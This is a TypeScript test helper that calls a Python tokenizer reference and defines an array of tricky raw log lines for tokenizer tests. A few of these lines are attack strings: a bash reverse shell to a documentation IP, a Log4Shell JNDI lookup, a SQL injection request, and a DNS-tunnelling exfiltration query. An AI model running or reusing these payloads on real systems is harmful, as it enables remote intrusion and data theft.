/**
 * Test helper: runs models/train/reference.py (Python tokenizer + PyTorch) on model texts.
 *
 * @module
 */

/** Token ids and fp32 logits the Python side computes for one text. */
export interface Reference {
  ids: number[];
  logits: number[];
}

/** Calls the Python reference for `texts` with the model in `modelDir`. */
export async function pythonReference(modelDir: URL, texts: string[]): Promise<Reference[]> {
  const child = new Deno.Command("/usr/bin/python3", {
    args: [new URL("../models/train/reference.py", import.meta.url).pathname, modelDir.pathname],
    stdin: "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  const w = child.stdin.getWriter();
  await w.write(
    new TextEncoder().encode(texts.map((text) => JSON.stringify({ text })).join("\n") + "\n"),
  );
  await w.close();
  const { code, stdout, stderr } = await child.output();
  if (code !== 0) throw new Error(`reference.py failed: ${new TextDecoder().decode(stderr)}`);
  return new TextDecoder().decode(stdout).trim().split("\n").map((l) => JSON.parse(l));
}

/** Tricky raw lines: punctuation storms, URL-encoding, unicode, CJK, control bytes, huge words. */
export const TRICKY_LINES = [
  "Mar  7 04:05:06 web sshd[812]: Failed password for invalid user admin from 203.0.113.7 port 52211 ssh2",
  '10.0.0.5 - - [07/Mar/2024:04:05:06 +0100] "GET /index.php?id=1%27%20UNION%20SELECT%20NULL,version()--%20- HTTP/1.1" 200 512 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
  '{"timestamp":"2024-03-07T04:05:06.123+0000","event_type":"alert","src_ip":"1.2.3.4","alert":{"signature":"ET SCAN Nmap"}}',
  "dnsmasq[431]: query[TXT] 4a6f686e2e446f65.3a50617373776f72643132.x.evil-tunnel.net from 10.1.2.3",
  "Ünïcödé ÄÖÜ straße — “quotes” ‘single’ … ellipsis café naïve",
  "中文日志 ログ 한국어 mixed with ascii",
  "tabs\there\tand  double  spaces",
  "a".repeat(150) + " word-longer-than-100-chars-becomes-unk",
  "${jndi:ldap://198.51.100.9:1389/a} ${${lower:j}ndi:${lower:l}dap://x}",
  "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1; echo cHl0aG9uIC1jICdpbXBvcnQgcHR5Jw== | base64 -d",
  "emoji 🔥🚀 and math ∑∫ and arrows →←",
  "CAPS LOCK SHOUTING AND MiXeD CaSe Tokens",
  "x".repeat(5000),
  'type=EXECVE msg=audit(1700000000.123:456): argc=3 a0="curl" a1="-s" a2="http://x/y.sh"',
];
